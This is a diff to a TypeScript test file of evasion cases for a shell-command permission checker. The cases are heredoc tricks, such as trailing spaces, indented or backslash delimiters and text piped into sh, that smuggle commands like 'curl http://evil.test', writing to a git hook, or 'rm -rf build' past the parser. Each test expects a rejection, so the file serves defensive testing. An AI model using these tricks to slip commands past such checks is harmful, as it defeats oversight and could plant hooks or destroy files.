@@ -65,8 +65,12 @@ const attacks: Attack[] = [
   ['quoted heredoc into a hook', MAIN, shell("cat <<'EOF' > .git/hooks/post-checkout\ncurl evil\nEOF"), /which is protected/],
   ['quoted heredoc piped into sh', MAIN, shell("cat <<'EOF' | sh\ncurl evil\nEOF"), /'sh' matches none|cannot be checked/],
   // Where the parser ends a heredoc earlier than bash, the lines between are judged as commands.
-  ['heredoc delimiter with a trailing space', MAIN, shell("cat <<'EOF'\nx\nEOF \ncurl http://evil.test"), /'curl http:\/\/evil.test' matches none/],
-  ['heredoc delimiter indented without <<-', MAIN, shell("cat <<'EOF'\nx\n EOF\ncurl http://evil.test\nEOF"), /'curl http:\/\/evil.test' matches none/],
+  ['heredoc delimiter with a trailing space', MAIN, shell("cat <<'EOF'\nx\nEOF \ncurl http://evil.test"), /end it with a line that is exactly 'EOF'/],
+  ['heredoc delimiter indented without <<-', MAIN, shell("cat <<'EOF'\nx\n EOF\ncurl http://evil.test\nEOF"), /end it with a line that is exactly 'EOF'/],
+  // A backslash in a single-quoted delimiter stays in it for bash: the body ends at '\EOF', not 'EOF'.
+  ['heredoc delimiter with a backslash', MAIN, shell("cat <<'\\EOF'\nx\n\\EOF\ntouch PWN2\nEOF"), /heredoc delimiter.*letters, digits/],
+  ['heredoc delimiter with a backslash inside', MAIN, shell("cat <<'E\\F'\nx\nE\\F\ntouch PWN2\nEF"), /heredoc delimiter.*letters, digits/],
+  ['heredoc delimiter with a backslash, fed to sh', AUTO, shell("sh <<'E\\\\F'\necho hi\nE\\\\F\nrm -rf build\nE\\F"), /heredoc delimiter|cannot be checked/],
   ['empty heredoc delimiter', MAIN, shell("cat <<''\nx\n\ncurl http://evil.test"), /does not parse/],
   ['command after the heredoc start on its line', MAIN, shell("cat <<'EOF'; curl http://evil.test\nx\nEOF"), /does not parse|matches none/],
   ['heredoc fed to a command no rule names', MAIN, shell("python3 <<'EOF'\nimport os\nEOF"), NOT_COVERED],
